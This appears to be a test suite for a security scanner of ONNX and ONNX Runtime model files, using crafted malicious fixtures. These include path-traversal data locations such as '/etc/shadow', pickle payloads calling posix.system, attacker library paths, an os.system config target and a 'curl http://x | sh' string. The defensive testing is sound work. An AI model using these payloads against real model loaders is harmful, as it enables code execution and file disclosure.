import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { protobuf } from "../../../test/protobuf-bytes.js";
import { bytesOf, scanBytes } from "../../../test/scan-bytes.js";
import type { Neighbour, Surroundings } from "../../engine/artifact.js";
import { type Reader, bytesReader } from "../../io/reader.js";

const testdata = new URL("./testdata/", import.meta.url);
const golden = (name: string) => new Uint8Array(readFileSync(new URL(name, testdata)));
const facts = JSON.parse(readFileSync(new URL("facts.json", testdata), "utf8")) as Record<string, { nodes: number; opset: Record<string, number> }>;

type Field = [number, number | bigint | string | Uint8Array];
const node = (type: string, domain = "", ...more: Field[]) => protobuf([1, "x"], [2, "y"], [4, type], ...more, [7, domain]);
const text = (name: string, value: string | Uint8Array): Field => [5, protobuf([1, name], [4, value], [20, 3])];
const graphOf = (...fields: Field[]) => protobuf(...fields, [2, "g"]);
const modelOf = (graph: Uint8Array, ...more: Field[]) => protobuf([1, 8], [7, graph], [8, protobuf([1, ""], [2, 17])], ...more);
const withNode = (...args: Parameters<typeof node>) => modelOf(graphOf([1, node(...args)]));
const entry = (key: string, value: string): Field => [13, protobuf([1, key], [2, value])];
const external = (...entries: Field[]) => protobuf([1, 2], [2, 1], [8, "w"], ...entries, [14, 1]);
const withTensor = (tensor: Uint8Array) => modelOf(graphOf([1, node("Relu")], [5, tensor]));
const scan = (bytes: Uint8Array, around?: Surroundings) => scanBytes("m.onnx", bytes, around ? { around } : {});
const beside = (files: Record<string, Neighbour>): Surroundings => ({
  look: (path) => files[path] ?? { kind: "missing" },
  names: () => Object.keys(files),
});
const file = (bytes: Uint8Array): Neighbour => ({ kind: "file", size: bytes.length, open: () => bytesReader(bytes) });

describe("models written by the onnx library", () => {
  test.each(Object.keys(facts))("%s is clean, and its nodes are all counted", async (name) => {
    const scanned = await scan(golden(`${name}.onnx`));
    expect(scanned.outcome).toBe("clean");
    expect(scanned.records[0]?.formats).toEqual(["onnx"]);
    expect(scanned.records[0]?.metadata).toMatchObject({ node_count: facts[name]?.nodes, opset: facts[name]?.opset });
  });

  test("a model with its data beside it is clean", async () => {
    const around = beside({ "external.onnx.data": file(golden("external.onnx.data")) });
    const scanned = await scan(golden("external.onnx"), around);
    expect([scanned.outcome, scanned.rules]).toEqual(["clean", []]);
  });

  test("a missing data file is a note, not an alarm", async () => {
    const scanned = await scan(golden("external.onnx"), beside({}));
    expect([scanned.outcome, scanned.rules]).toEqual(["clean", ["S1452"]]);
  });

  test("a model cut short is inconclusive", async () => {
    const whole = golden("plain.onnx");
    const opset = protobuf([8, protobuf([1, ""], [2, 17])]).length;
    for (const length of [whole.length - 60, whole.length - 3, whole.length - opset + 1])
      expect((await scan(whole.subarray(0, length))).outcome).toBe("inconclusive");
  });

  test("operators of a vendor are a note", async () => {
    expect((await scan(golden("vendor.onnx"))).rules).toEqual(["S1111"]);
  });
});

describe("external data", () => {
  test.each(["/etc/shadow", "../w", "a/../../w", "a\\..\\..\\w", "C:\\w", "\\\\host\\w", "http://host/w", "%2e%2e/w", "w\0.bin"])(
    "%j leaves the folder",
    async (location) => {
      const scanned = await scan(withTensor(external(entry("location", location))));
      expect([scanned.worst, scanned.rules]).toEqual(["critical", ["S405"]]);
    },
  );

  const inside = external(entry("location", "../w"));
  const attribute = (field: number, value: Uint8Array): Field => [5, protobuf([1, "value"], [field, value], [20, 4])];
  const sparse = protobuf([1, inside], [3, 2]);
  const hidden = graphOf([5, inside]);
  test.each<[string, Uint8Array]>([
    ["a Constant node", withNode("Constant", "", attribute(5, inside))],
    ["a list of tensors", withNode("Constant", "", attribute(10, inside))],
    ["a sparse tensor", modelOf(graphOf([15, sparse]))],
    ["the indices of a sparse attribute", withNode("Constant", "", attribute(22, protobuf([2, inside])))],
    ["a branch", withNode("If", "", attribute(6, hidden))],
    ["a branch of a branch", withNode("If", "", attribute(11, graphOf([1, node("If", "", attribute(6, hidden))])))],
    ["a function", modelOf(graphOf([1, node("Relu")]), [25, protobuf([1, "F"], [7, node("Constant", "", attribute(5, inside))], [10, "d"])])],
    [
      "the default of a function's attribute",
      modelOf(graphOf([1, node("Relu")]), [25, protobuf([1, "F"], [10, "d"], [11, protobuf([1, "v"], [5, inside])])]),
    ],
    ["a training graph", modelOf(graphOf([1, node("Relu")]), [20, protobuf([2, hidden])])],
    ["a second main graph", bytesOf(modelOf(graphOf([1, node("Relu")])), protobuf([7, hidden]))],
    ["a tensor that does not say it is external", withTensor(protobuf([1, 2], [2, 1], [8, "w"], entry("location", "../w")))],
    ["the first of two locations", withTensor(external(entry("location", "../w"), entry("location", "w")))],
    ["a tensor in a file of its own", inside],
  ])("is found in %s", async (_, bytes) => {
    expect((await scan(bytes)).rules).toContain("S405");
  });

  test.each<[string, Field[], string]>([
    ["no location", [entry("offset", "0")], "S1451"],
    ["a negative offset", [entry("location", "w"), entry("offset", "-8")], "S1451"],
    ["an offset that is no number", [entry("location", "w"), entry("offset", "0x10")], "S1451"],
    ["a length unlike the shape", [entry("location", "w"), entry("length", "4")], "S1451"],
    ["an end past the file", [entry("location", "w"), entry("offset", "5")], "S1451"],
    ["an address in memory", [entry("location", "*/_ORT_MEM_ADDR_/*"), entry("offset", "4096")], "S1450"],
  ])("%s", async (_, entries, rule) => {
    expect((await scan(withTensor(external(...entries)), beside({ w: file(new Uint8Array(12)) }))).rules).toEqual([rule]);
  });

  test("a link out of the folder", async () => {
    const scanned = await scan(withTensor(external(entry("location", "w"))), beside({ w: { kind: "outside", target: "/etc/shadow" } }));
    expect(scanned.rules).toEqual(["S406"]);
  });

  test("a pickle at a tensor's place in the data file", async () => {
    const tensor = protobuf([1, 8], [2, 1], [8, "w"], entry("location", "w"), entry("offset", "16"), [14, 1]);
    const payload = bytesOf("cposix\nsystem\n(S'true'\ntR.      ");
    const scanned = await scan(withTensor(tensor), beside({ w: file(bytesOf(new Uint8Array(16), payload)) }));
    expect(scanned.worst).toBe("critical");
  });
});

describe("operators", () => {
  test.each<[string, Uint8Array, string]>([
    ["an unknown domain", withNode("Magic", "evil.ops"), "S1453"],
    ["an unknown domain in a branch", withNode("If", "", [5, protobuf([1, "then_branch"], [6, graphOf([1, node("Magic", "evil.ops")])])]), "S1453"],
    ["a Python operator", withNode("PythonOp", "com.microsoft"), "S1454"],
    ["a Python operator of another domain", withNode("PyFunc", "x.y"), "S1454"],
    ["a library attribute", withNode("Relu", "", text("library", "/tmp/evil.so")), "S1456"],
    ["a versioned library", withNode("Relu", "com.microsoft", text("path", "libx.so.1.2")), "S1456"],
    ["a server", withNode("AzureTextToText", "com.microsoft.extensions", text("model_uri", "https://host/x")), "S1460"],
    [
      "an engine in another file",
      withNode("EPContext", "com.microsoft", [5, protobuf([1, "embed_mode"], [3, 0])], text("ep_cache_context", "ctx.engine")),
      "S1455",
    ],
    ["an engine outside", withNode("EPContext", "com.microsoft", [5, protobuf([1, "embed_mode"], [3, 0])], text("ep_cache_context", "../x")), "S405"],
    ["a shadowed operator", modelOf(graphOf([1, node("Relu")]), [25, protobuf([1, "Relu"], [7, node("Neg")], [10, ""])]), "S1457"],
    [
      "a graph that feeds itself",
      modelOf(graphOf([1, protobuf([1, "b"], [2, "a"], [4, "Neg"])], [1, protobuf([1, "a"], [2, "b"], [4, "Neg"])])),
      "S902",
    ],
  ])("%s", async (_, bytes, rule) => {
    const scanned = await scan(bytes);
    expect(scanned.rules).toContain(rule);
    expect(scanned.outcome).toBe("findings");
  });

  test.each<[string, Uint8Array]>([
    ["a constant text that is called like a library", withNode("Constant", "", text("value_string", "libfoo.so"))],
    ["an operator newer than this program", withNode("BrandNew")],
    ["an operator the model defines", modelOf(graphOf([1, node("F", "my.d")]), [25, protobuf([1, "F"], [7, node("Neg")], [10, "my.d"])])],
    ["a description full of code", modelOf(protobuf([1, node("Relu", "", [6, "exec(os.system('curl http://x | sh'))"])], [10, "__import__('os')"]))],
  ])("%s is no alarm", async (_, bytes) => {
    expect((await scan(bytes)).outcome).toBe("clean");
  });
});

describe("tensors", () => {
  const raw = (dims: (number | bigint)[], type: number, length: number) =>
    withTensor(protobuf(...dims.map((dim): Field => [1, dim]), [2, type], [8, "w"], [9, new Uint8Array(length)]));
  test.each<[string, Uint8Array]>([
    ["too little data", raw([2, 2], 1, 15)],
    ["too much data", raw([2, 2], 1, 17)],
    ["a negative dimension", raw([-1], 1, 4)],
    ["a product beyond memory", raw([2n ** 62n, 4], 1, 4)],
    ["text as raw data", raw([1], 8, 4)],
    ["typed data shorter than the shape", withTensor(protobuf([1, 100], [2, 1], [4, new Uint8Array(8)], [8, "w"]))],
  ])("%s", async (_, bytes) => {
    expect((await scan(bytes)).rules).toEqual(["S1458"]);
  });

  test("a program at the start of a tensor", async () => {
    const pickle = bytesOf("cposix\nsystem\n(S'true'\ntR.", new Uint8Array(6));
    const scanned = await scan(withTensor(protobuf([1, pickle.length], [2, 2], [8, "w"], [9, pickle])));
    expect(scanned.worst).toBe("critical");
  });
});

test("a length that overflows its graph is an alarm, and the rest is still judged", async () => {
  const overflowing = bytesOf(1 * 8 + 2, 0x7f, "short");
  const scanned = await scan(modelOf(bytesOf(protobuf([1, node("PythonOp")]), overflowing)));
  expect(scanned.rules).toEqual(["S1454", "S902"]);
});

describe("files that ONNX Runtime wrote", () => {
  test.each([
    ["plain", { node_count: 1, operators: { MatMul: 1 }, tensor_count: 1, parameter_count: 16, ir_version: 8 }],
    ["branches", { node_count: 3, operators: { If: 1, Neg: 1, Identity: 1 } }],
  ])("%s is clean, and its nodes are all counted", async (name, facts) => {
    const { outcome, rules, records } = await scanBytes("m.ort", golden(`${name}.ort`));
    expect([outcome, rules]).toEqual(["clean", []]);
    expect(records[0]?.metadata).toMatchObject(facts);
  });
  const replaced = (name: string, from: string, to: string) =>
    bytesOf(
      golden(name)
        .reduce((text, byte) => text + String.fromCharCode(byte), "")
        .replaceAll(from, to),
    );
  test.each<[string, Uint8Array, string]>([
    ["a Python operator in a branch", replaced("branches.ort", "Identity", "PythonOp"), "S1454"],
    ["a reference that is forged", bytesOf(0xf0, 0xff, 0xff, 0xff, golden("plain.ort").subarray(4)), "S902"],
    ["a pickle behind it", bytesOf(golden("plain.ort"), "cposix\nsystem\n(S'true'\ntR."), "S101"],
  ])("%s", async (_, bytes, rule) => {
    expect((await scanBytes("m.ort", bytes)).rules).toContain(rule);
  });
  test("one cut short is inconclusive", async () => {
    const whole = golden("plain.ort");
    for (const part of [0.3, 0.6, 0.9])
      expect((await scanBytes("m.ort", whole.subarray(0, Math.floor(whole.length * part)))).outcome).toBe("inconclusive");
  });
});

test.each<[string, Uint8Array, string]>([
  ["an unknown field first", bytesOf(protobuf([40, "hello"]), withNode("PythonOp")), "S1454"],
  ["a group first", bytesOf(0xc3, 2, 0xc4, 2, withNode("PythonOp")), "S1454"],
  ["a target in the properties", modelOf(graphOf([1, node("Relu")]), [14, protobuf([1, "config"], [2, '{"_target_": "os.system"}'])]), "S1258"],
  ["the model that an engine was made from", withNode("EPContext", "com.microsoft", text("onnx_model_filename", "../../x.onnx")), "S405"],
  ["floats that are too few", withTensor(protobuf([1, 4], [2, 1], [8, "w"], [4, new Uint8Array(8)])), "S1458"],
])("%s", async (_, bytes, rule) => {
  expect((await scan(bytes)).rules).toContain(rule);
});

test("the checksum of a data file is held against it", async () => {
  const data = new Uint8Array(12);
  const tensor = (sum: string) => protobuf([1, 3], [2, 1], [8, "w"], entry("location", "w"), entry("checksum", sum), [14, 1]);
  const right = createHash("sha1").update(data).digest("hex");
  expect((await scan(withTensor(tensor(right)), beside({ w: file(data) }))).rules).toEqual([]);
  expect((await scan(withTensor(tensor("0".repeat(40))), beside({ w: file(data) }))).rules).toEqual(["S1451"]);
});

describe("bytes that are no part of the model", () => {
  test("a field of unknown number is a note", async () => {
    const scanned = await scan(modelOf(graphOf([1, node("Relu")]), [99, "something of a newer writer"]));
    expect([scanned.outcome, scanned.rules]).toEqual(["clean", ["S1459"]]);
  });

  test("foreign bytes at the end are an alarm", async () => {
    const scanned = await scan(bytesOf(modelOf(graphOf([1, node("Relu")])), "\0\0\0 appended"));
    expect(scanned.rules).toEqual(["S902"]);
  });

  test("a pickle in an unknown field is found", async () => {
    const scanned = await scan(modelOf(graphOf([1, node("Relu")]), [99, "cposix\nsystem\n(S'true'\ntR."]));
    expect(scanned.rules).toContain("S908");
  });
});

test("tensor data is skipped, not read", async () => {
  const size = 400 * 2 ** 20;
  const rawHead = protobuf([1, size / 4], [2, 1], [8, "w"]);
  const length = (n: number) => protobuf([1, n]).subarray(1);
  const raw = bytesOf(rawHead, 9 * 8 + 2, length(size));
  const tensor = bytesOf(5 * 8 + 2, length(raw.length + size), raw);
  const before = protobuf([1, node("Relu")]);
  const model = bytesOf(protobuf([1, 8]), 7 * 8 + 2, length(before.length + tensor.length + size), before, tensor);
  const tail = protobuf([8, protobuf([2, 17])]);
  const reader: Reader = {
    size: model.length + size + tail.length,
    read(offset, count) {
      return Uint8Array.from({ length: count }, (_, i) => model[offset + i] ?? tail[offset + i - model.length - size] ?? 0);
    },
  };
  const scanned = await scanBytes("big.onnx", reader);
  expect(scanned.outcome).toBe("clean");
  expect(scanned.records[0]?.metadata).toMatchObject({ parameter_count: size / 4 });
  expect(scanned.bytesRead).toBeLessThan(20_000);
});

test("text that begins with a colon is no model", async () => {
  const text = bytesOf(":orphan:\n\n", "Installation of the package\n".repeat(200));
  expect((await scanBytes("installing.rst", text)).records[0]?.formats).toEqual(["text"]);
});
